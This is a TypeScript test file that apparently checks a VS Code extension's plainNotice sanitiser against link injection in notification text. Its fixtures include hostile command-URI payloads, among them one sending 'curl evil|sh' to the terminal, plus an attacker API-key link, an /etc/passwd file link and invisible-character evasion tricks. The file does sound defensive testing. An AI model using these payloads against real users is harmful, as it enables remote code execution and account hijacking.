// Issue 18 item 7: every untrusted source that reaches a notification, through the one neutraliser
// (`plainNotice`, applied by src/ui/notify.ts). The test for each source feeds that source's real
// formatting code a hostile value and checks that VS Code's notification link parser finds nothing.
import * as assert from 'node:assert/strict';
import { DeprecationNotices, type DeprecationNotice } from '../../../src/account/deprecation';
import { characterRow } from '../../../src/characters/format';
import { safeText } from '../../../src/models/format';
import { safeServerText } from '../../../src/venice/errors';
import { oneLine, plainNotice } from '../../../src/util/text';

/** VS Code's notification link syntax (src/vs/base/common/linkedText.ts): `[label](http(s)|command|file: target "title")`. */
const VSCODE_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
/** Any Markdown inline link or autolink, whatever the scheme. */
const ANY_LINK = /\]\(|<[a-z][a-z0-9+.-]*:/i;

const TERMINAL_LINK = '[Fix settings](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)';
const KEY_LINK = '[Set API Key](command:venice.setApiKey?%5B%22sk-attacker%22%5D)';

function assertInert(text: string): void {
  assert.equal(text.match(VSCODE_LINK), null, `no VS Code link in: ${text}`);
  assert.doesNotMatch(text, ANY_LINK, `no Markdown link or autolink in: ${text}`);
  assert.doesNotMatch(text, /command:\S/i, `no command URI in: ${text}`);
}

describe('plainNotice: link syntax in notification text is neutralised (issue 18 item 7)', () => {
  it('the attack text is a real link before, and inert after', () => {
    assert.notEqual(TERMINAL_LINK.match(VSCODE_LINK), null, 'the probe is a link VS Code would render');
    assertInert(plainNotice(TERMINAL_LINK));
    assert.equal(plainNotice(TERMINAL_LINK), '[Fix settings] (command\u2024workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)', 'still readable');
  });

  it('venice.chat.character from a workspace: the warning quotes it without a link', () => {
    const shown = plainNotice(`venice.chat.character in this workspace's settings is not a character slug, so the chat ignores it: "${oneLine(KEY_LINK, { maxLength: 120 })}".`);
    assertInert(shown);
    assert.match(shown, /Set API Key/);
  });

  it('server error text: safeServerText strips HTML, plainNotice then removes the link', () => {
    const body = `<html><title>Bad gateway</title><body>${KEY_LINK}</body></html>`;
    assert.notEqual(safeServerText(body).match(VSCODE_LINK), null, 'safeServerText alone keeps the link');
    assertInert(plainNotice(`Venice: ${safeServerText(body)}`));
    assertInert(plainNotice(`Venice: ${safeServerText(`Invalid model. ${TERMINAL_LINK}`)}`));
  });

  it('the deprecation header: the notice built from it is inert once shown', () => {
    const shown: DeprecationNotice[] = [];
    const memory = { get: () => undefined, update: async () => undefined };
    new DeprecationNotices(memory, (n) => shown.push(n)).fromMeta({ status: 200, modelId: 'old-model', deprecationWarning: `Retiring soon. ${KEY_LINK}` });
    assert.equal(shown.length, 1);
    assertInert(plainNotice(shown[0].message));
  });

  it('venice.speech.voice and model ids: safeText for pickers, plainNotice for the notification', () => {
    assertInert(plainNotice(`Venice reads with ${safeText(TERMINAL_LINK, 60)} (${safeText('tts-kokoro')}).`));
    assertInert(plainNotice(`Venice chat now uses ${safeText(KEY_LINK)}.`));
  });

  it('character names written by other Venice users', () => {
    const row = characterRow({ slug: 'evil', name: KEY_LINK, description: TERMINAL_LINK });
    assertInert(plainNotice(`Venice chat now talks as ${row.label}.`));
  });

  it('file names (saved images and speech, semantic hits): a path may hold link syntax', () => {
    assertInert(plainNotice(`Saved images/${KEY_LINK}.png.`));
    assertInert(plainNotice(`Venice: src/[a](command:x).ts is no longer in the workspace.`));
  });

  it('tricks: invisible characters between ] and (, autolinks, other schemes, modal details with line breaks', () => {
    assertInert(plainNotice('[x]\u200b(command:venice.setApiKey)'));
    assertInert(plainNotice('[x]\u2060\u202e(command:venice.setApiKey)'));
    assertInert(plainNotice('<command:venice.setApiKey> and < https://evil.example>'));
    assertInert(plainNotice('[open](https://evil.example) [f](file:///etc/passwd) [v](vscode://x)'));
    assertInert(plainNotice('CoMmAnD:venice.setApiKey'));
    assert.equal(plainNotice('line one [a](command:x)\nline two'), 'line one [a] (command\u2024x)\nline two', 'a detail keeps its lines');
  });

  it('ordinary text is left as the user would read it', () => {
    for (const text of ['Saved images/generated/cat-1.webp.', 'Unknown command: foo', 'Add credit at https://venice.ai/settings/api', 'Delete the chat "Plans [draft] (v2)"?']) {
      assert.equal(plainNotice(text), text);
    }
  });
});
